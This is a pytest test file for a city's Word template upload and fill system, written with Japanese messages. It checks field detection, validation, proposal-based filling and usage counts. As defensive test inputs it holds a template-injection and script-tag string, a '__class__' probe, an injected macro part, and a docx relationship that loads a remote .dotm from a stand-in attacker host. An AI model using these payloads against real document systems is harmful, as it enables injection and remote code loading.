"""A Word file becomes a 様式 only when it can be filled; what a company wrote is only text in it."""

from dataclasses import replace
from datetime import date, timedelta
from io import BytesIO
from zipfile import ZipFile

import pytest

from knowledge.models import Template, TemplateDownload, TemplateVersion
from knowledge.queries.templates import proposals_in_full, shelves, times_taken, versions_of, words_of
from knowledge.rules.templates import BYTES, FIELDS, NOTHING
from knowledge.usecases.add_template_version import CannotAdd, add_template_version, try_template
from knowledge.usecases.keep_template import CannotKeep, TemplateWords, add_template, keep_template
from knowledge.usecases.load_methods import load_methods
from knowledge.usecases.load_templates import FIRST, FOLDER, load_templates
from knowledge.usecases.take_template import CannotFill, fill_template, take_version
from nara_renkei.core.models import AuditEvent, CitySettings, FileState, PrivateFile
from nara_renkei.core.private_files import open_file
from nara_renkei.portal.demo.pictures import leaflet
from proposals.enums import AccessScope
from proposals.models import ProposalAccess
from tests.factories.accounts import StaffFactory
from tests.factories.directory import DivisionFactory, OrganizationFactory
from tests.factories.knowledge import MethodFactory, TemplateFactory
from tests.factories.proposals import ProposalFactory
from tests.factories.screening import RoutingFactory
from tests.harness import NOON, THE_DESK, THE_DIVISION, TODAY, path_of
from tests.knowledge.word_files import said, with_part, word

pytestmark = pytest.mark.django_db
DESK = {"by": THE_DESK, "at": NOON}
HOSTILE = "{{ 7*7 }}{% for x in y %}</w:t><script>&lt;\x00\x0b_{_{一行目\r\n二行目"


def words(**changes):
    given = {
        "name": "見本の様式",
        "purpose": "協定を結ぶとき。",
        "methods": [],
        "owner": DivisionFactory(),
        "review_by": TODAY + timedelta(days=90),
        **changes,
    }
    return TemplateWords(**given)


def version_of(*lines):
    template = TemplateFactory()
    return add_template_version(template=template, name="a.docx", content=word(*lines), why="試すため。", **DESK)


# --- what becomes a version


def test_a_file_becomes_the_newest_version_and_the_older_stay():
    template = TemplateFactory()
    for n in (1, 2):
        add_template_version(
            template=template, name="a.docx", content=word(f"第{n}の文 {{{{ 団体名 }}}}"), why=f"理由{n}", **DESK
        )

    newest, older = versions_of(template)
    assert (newest.number, newest.why, newest.fields, newest.added_by) == (2, "理由2", ["団体名"], THE_DESK.label)
    assert "第1の文" in said(open_file(older.file).read())
    assert newest.file.original_name == f"{template.name}.docx"


def test_what_is_tried_is_shown_filled_with_samples():
    fields, trial = try_template("a.docx", word("甲と{{ 団体名 }}", "", "{{ 提案名 }}", header="{{ 市名 }}"))

    assert fields == ["団体名", "提案名", "市名"]
    assert trial == ["甲と株式会社ふたもみじ商店【例示】", "移動販売の車で、市の案内を配る", "奈良市"]


def test_a_tag_in_pieces_is_one():
    made = with_part(
        word("{{ 団体名 }}"),
        "word/document.xml",
        lambda xml: xml.replace("団体名".encode(), "団</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>体名".encode()),
    )

    assert try_template("a.docx", made) == (["団体名"], ["株式会社ふたもみじ商店【例示】"])


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("a.docx", lambda: word("{{ 会社名 }}"), "「会社名」という欄はありません"),
        ("a.docx", lambda: word("{{ 団体名 "), "「{{ 団体名」の括弧が閉じていません"),
        ("a.docx", lambda: word("{% for x in y %}"), "「{% for x in y %}」は使えません"),
        ("a.docx", lambda: word("文", header="{{ 見出し }}"), "「見出し」という欄はありません"),
        ("a.docx", lambda: word("文", author="{{ ''.__class__ }}"), "という欄はありません"),
        ("a.pdf", leaflet, "Word（.docx）で選んでください"),
        ("a.doc", lambda: b"x", "古い形式（.doc）"),
        ("a.docx", leaflet, "中身が、名前の末尾"),
        ("a.docx", lambda: b"", "中身が空です"),
        ("a.docx", lambda: b"0" * (BYTES + 1), "1MBまで"),
        (
            "a.docx",
            lambda: with_part(word("文"), "word/document.xml", lambda xml: b"<w:document"),
            "ファイルが壊れているため開けません",
        ),
        (
            "a.docx",
            lambda: with_part(
                word("文"), "word/document.xml", lambda xml: xml.replace(b"<w:p>", b'<w:p w:rsidR="{{ 7*7 }}">', 1)
            ),
            "文の外に差し込みの記号",
        ),
        (
            "a.docx",
            lambda: with_part(
                word("文"), "word/document.xml", lambda xml: xml.replace(b"<w:p>", b'<w:p w:rsidR="{{">', 1)
            ),
            "文の外に差し込みの記号",
        ),
        (
            "a.docx",
            lambda: with_part(
                word("文"),
                "word/_rels/document.xml.rels",
                lambda xml: xml.replace(
                    b"</Relationships>",
                    b'<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file://evil.example/a.dotm" TargetMode="External"/></Relationships>',
                ),
            ),
            "ほかの場所のファイルを読み込む",
        ),
    ],
)
def test_what_cannot_be_filled_is_refused_and_nothing_kept(name, content, sentence):
    template, before = TemplateFactory(), PrivateFile.objects.count()

    with pytest.raises(CannotAdd, match=sentence.replace("（", ".").replace("(", ".")) as caught:
        add_template_version(template=template, name=name, content=content(), why="試すため。", **DESK)

    assert all(one.endswith("。") for one in caught.value.faults)
    assert (TemplateVersion.objects.count(), PrivateFile.objects.count()) == (0, before)


def test_a_macro_is_refused():
    made = BytesIO(word("文"))
    with ZipFile(made, "a") as file:
        file.writestr("word/vbaProject.bin", b"x")

    with pytest.raises(CannotAdd, match="マクロ"):
        try_template("a.docx", made.getvalue())


def test_every_fault_is_said_at_once():
    with pytest.raises(CannotAdd) as caught:
        try_template("a.docx", word("{{ 会社名 }}", "{{ 団体名", "{% if x %}"))

    assert len(caught.value.faults) == 3


def test_a_link_in_the_text_is_no_call():
    made = with_part(
        word("文"),
        "word/_rels/document.xml.rels",
        lambda xml: xml.replace(
            b"</Relationships>",
            b'<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://nara.example/" TargetMode="External"/></Relationships>',
        ),
    )

    assert try_template("a.docx", made) == ([], ["文"])


def test_a_version_has_a_reason():
    with pytest.raises(CannotAdd, match="変えた理由"):
        add_template_version(template=TemplateFactory(), name="a.docx", content=word("文"), why=" ", **DESK)


# --- what is said of it


def test_a_new_one_comes_with_its_first_version_and_is_found():
    method = MethodFactory()

    made = add_template(code="atarashii", words=words(methods=[method]), file_name="a.docx", content=word("文"), **DESK)

    assert versions_of(made)[0].why == "初めの版です。"
    assert Template.objects.saying("協定").get() == made
    assert [(one.name, list(one.templates)) for one in shelves(method.code)] == [(method.name, [made])]
    with pytest.raises(CannotKeep, match="もうあります"):
        add_template(code="atarashii", words=words(), file_name="a.docx", content=word("文"), **DESK)


def test_a_file_that_is_refused_makes_no_template():
    with pytest.raises(CannotAdd):
        add_template(code="atarashii", words=words(), file_name="a.docx", content=word("{{ x }}"), **DESK)

    assert not Template.objects.filter(code="atarashii").exists()


def test_its_words_change_and_a_new_review_day_is_told_of_again():
    template = TemplateFactory(review_told_on=TODAY)
    same = words(review_by=template.review_by)

    assert keep_template(template=template, words=same, **DESK).review_told_on == TODAY
    later = replace(same, review_by=date(2028, 4, 1), is_active=False)
    assert keep_template(template=template, words=later, **DESK).review_told_on is None
    assert not Template.objects.in_use().exists()


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"name": " "}, "名称と"),
        ({"purpose": "　"}, "名称と"),
        ({"review_by": date(2026, 10, 4)}, "見直しの期限は、今日か"),
    ],
)
def test_words_that_cannot_be(changes, sentence):
    with pytest.raises(CannotKeep, match=sentence):
        keep_template(template=TemplateFactory(), words=words(**changes), **DESK)


def test_those_of_no_method_stand_last():
    method, alone = MethodFactory(), TemplateFactory()
    TemplateFactory(is_active=False)
    both = TemplateFactory()
    both.methods.add(method)

    assert [(one.name, list(one.templates)) for one in shelves()] == [(method.name, [both]), ("そのほか", [alone])]
    assert shelves("nai") == []


# --- filled


def test_a_proposal_fills_every_place():
    division = DivisionFactory(name="観光戦略課")
    StaffFactory(manager=True, division=division, name="奈良 花子")
    body = OrganizationFactory(name="ふたもみじ商店", representative="代表取締役 春日 太郎", address="奈良市一丁目")
    proposal = ProposalFactory(
        in_review=True,
        organization=body,
        lead_division=division,
        roles="市は場所、団体は人。",
        timing="春",
        method="協定",
    )
    proposal.co_proposers.create(
        name="生駒商店会", organization=OrganizationFactory(name="生駒市場会"), accepted_at=NOON
    )
    version = version_of(*(f"{name}＝{{{{ {name} }}}}" for name in FIELDS))

    text = said(fill_template(version=version, proposal=proposal, by=THE_DIVISION, at=NOON))

    wanted = {
        "団体名": "ふたもみじ商店",
        "代表者": "代表取締役 春日 太郎",
        "所在地": "奈良市一丁目",
        "法人番号": body.corporate_number,
        "担当者": "窓口 三郎",
        "共同提案者": "生駒市場会",
        "提案名": proposal.title,
        "提案番号": proposal.number,
        "提出日": "令和8年10月5日",
        "概要": proposal.summary,
        "提案内容": proposal.body,
        "よくなること": proposal.beneficiary,
        "役割分担": "市は場所、団体は人。",
        "費用": proposal.get_cost_display(),
        "希望時期": "春",
        "連携手法": "協定",
        "担当課": "観光戦略課",
        "担当課長": "課長 奈良 花子",
        "市名": "奈良市",
        "市の代表": CitySettings.load().sender_title,
        "窓口": "公民連携デスク",
        "今日": "令和8年10月5日",
        "年度": "令和8年度",
    }
    assert set(wanted) == set(FIELDS)
    for name, value in wanted.items():
        assert f"{name}＝{value}" in text


def test_what_the_record_does_not_say_stays_to_be_written():
    proposal = ProposalFactory(in_review=True, lead_division=None, roles="")
    found = words_of(proposal, TODAY)

    assert (found["担当課"], found["担当課長"], found["役割分担"], found["共同提案者"]) == (
        NOTHING,
        NOTHING,
        NOTHING,
        "なし",
    )
    assert words_of(ProposalFactory(lead_division=DivisionFactory()), TODAY)["提出日"] == NOTHING


def test_hostile_words_are_only_text():
    proposal = ProposalFactory(in_review=True, roles=HOSTILE.replace("\x00", ""))
    proposal.roles = HOSTILE
    version = version_of("役割：{{ 役割分担 }}。")

    text = said(fill_template(version=version, proposal=proposal, by=THE_DIVISION, at=NOON))

    assert text == "役割：{{ 7*7 }}{% for x in y %}</w:t><script>&lt;_{_{一行目\n二行目。"


def test_it_is_counted_by_month_without_the_person():
    version = version_of("文")
    proposal = ProposalFactory(in_review=True)
    for _ in range(2):
        take_version(version=version, by=THE_DIVISION, at=NOON)
    fill_template(version=version, proposal=proposal, by=THE_DIVISION, at=NOON)
    take_version(version=version, by=THE_DIVISION, at=NOON + timedelta(days=31))

    assert [(one.month, one.is_filled, one.times) for one in times_taken(version.template)] == [
        (date(2026, 11, 1), False, 1),
        (date(2026, 10, 1), False, 2),
        (date(2026, 10, 1), True, 1),
    ]
    assert not {field.name for field in TemplateDownload._meta.fields} & {"user", "by", "taken_by"}
    assert AuditEvent.objects.filter(verb="template.fill").get().keys["proposal"] == proposal.key


def test_a_file_that_is_not_there_or_not_safe_fills_nothing():
    version, proposal = version_of("文"), ProposalFactory(in_review=True)
    path_of(version.file).unlink()
    with pytest.raises(CannotFill, match="見つかりません"):
        fill_template(version=version, proposal=proposal, by=THE_DIVISION, at=NOON)
    version.file.state = FileState.PENDING
    with pytest.raises(CannotFill, match="安全の確認"):
        fill_template(version=version, proposal=proposal, by=THE_DIVISION, at=NOON)
    assert not TemplateDownload.objects.exists()


def test_only_what_is_read_in_full_is_offered():
    routing = RoutingFactory()
    officer, desk = StaffFactory(officer=True, division=routing.division), StaffFactory(desk=True)
    partly = ProposalFactory(in_review=True)
    ProposalAccess.objects.create(
        proposal=partly, division=routing.division, scope=AccessScope.QUESTION, starts_on=TODAY, why="意見照会"
    )

    assert set(proposals_in_full(officer, TODAY)) == {routing.screening.proposal}
    assert set(proposals_in_full(desk, TODAY)) == {routing.screening.proposal, partly}


# --- the first ones


def test_the_first_templates_are_loaded_once_and_stay_as_the_city_made_them():
    load_templates()
    assert not Template.objects.exists()  # nobody keeps them yet
    DivisionFactory(name=CitySettings.load().division_name)
    load_methods()
    load_templates()
    Template.objects.filter(code="koen-meigi").update(name="市の名義の様式")

    load_templates()

    assert Template.objects.count() == len(FIRST) == 8
    assert Template.objects.get(code="koen-meigi").name == "市の名義の様式"
    assert all(one.methods.exists() and one.versions.count() == 1 for one in Template.objects.all())


@pytest.mark.parametrize("one", FIRST, ids=lambda one: one.code)
def test_each_first_template_is_a_sample_and_has_no_place_left_open(one):
    fields, trial = try_template(f"{one.code}.docx", (FOLDER / f"{one.code}.docx").read_bytes())

    text = "\n".join(trial)
    assert text.startswith("【見本】")
    assert one.name in text
    assert fields
    assert "{{" not in text
